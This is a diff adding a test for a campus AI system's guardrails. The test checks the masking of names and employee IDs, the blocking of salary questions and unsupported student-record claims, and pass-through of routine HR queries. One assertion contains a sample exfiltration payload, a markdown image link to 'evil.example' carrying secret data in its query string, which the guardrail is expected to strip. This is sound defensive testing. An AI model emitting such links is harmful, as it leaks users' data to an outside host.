@@ -95,3 +95,46 @@ test("The campus guardrails promise nothing that this version does not do, and h
   assert.equal(inspect("Is 123-45-6789 on file?").outcome, "blocked");
   assert.equal(inspect("What is the individual\u200b  Salary of Dana?").outcome, "blocked");
 });
+
+test("The campus guardrails do what their README shows", () => {
+  const compiled = (wanted: string) =>
+    compileGuardrail(
+      manifests.find(({ kind, name }) => kind === "Guardrail" && name === wanted)?.spec as unknown as GuardrailManifestSpec,
+      calm,
+    );
+  const vault = { tokenOf: (type: string) => `{${type}:4f7k2m9x0q1z}`, valueOf: () => "Maria Gonzalez" };
+  const inspect = (name: string, side: "input" | "output", text: string, sources: readonly string[] = []) => {
+    let seen = text;
+    const part: TextPart = {
+      surface: side === "input" ? "user" : "assistant",
+      text,
+      replace: (masked) => (seen = masked),
+    };
+    const context = { hash: () => "0f3a", vault, prompt: { system: [], sources, query: "" } };
+    const guardrail = compiled(name);
+    const { outcome, findings } =
+      side === "input" ? guardrail.inspectInput([part], context) : guardrail.inspectOutput([part], context);
+    return { outcome, text: seen, types: findings.map(({ type }) => type) };
+  };
+  const asked = inspect("hr", "input", "Which trainings did Maria Gonzalez (E123456) attend?");
+  assert.equal(asked.text, "Which trainings did {NAME:4f7k2m9x0q1z} ({employee-id:0f3a}) attend?");
+  assert.equal(inspect("hr", "output", "{NAME:4f7k2m9x0q1z} attended two.").text, "Maria Gonzalez attended two.");
+  assert.deepEqual(inspect("hr", "input", "How much does Lee earn?").types, ["individual-salaries"]);
+  assert.equal(inspect("hr", "output", "Two. ![x](https://evil.example/p.png?d=secret)").text, "Two. x");
+  for (const text of [
+    "Which departments asked for safety trainings in spring?",
+    "Draft a note to staff about the new trainings, and thank everybody who took part.",
+    "How do we handle a complaint about harassment? Which training fits?",
+    "What did the trainings cost us last year, by department?",
+  ]) {
+    assert.equal(inspect("hr", "input", text).outcome, "clean", text);
+    assert.equal(inspect("hr", "output", text).outcome, "clean", text);
+  }
+  const named = inspect("research", "input", "Did Maria Gonzalez cite the Larkspur preprint?");
+  assert.equal(named.text, "Did Maria Gonzalez cite the {unpublished}?");
+  assert.ok(named.types.includes("NAME"));
+  const record = ["The student took Calculus in autumn and passed with a B."];
+  assert.equal(inspect("student-records", "output", "The student passed Calculus with a B.", record).outcome, "clean");
+  assert.equal(inspect("student-records", "output", "The student failed Physics twice.", record).outcome, "blocked");
+  assert.equal(inspect("student-records", "output", "Kestrel 7731.").outcome, "blocked");
+});
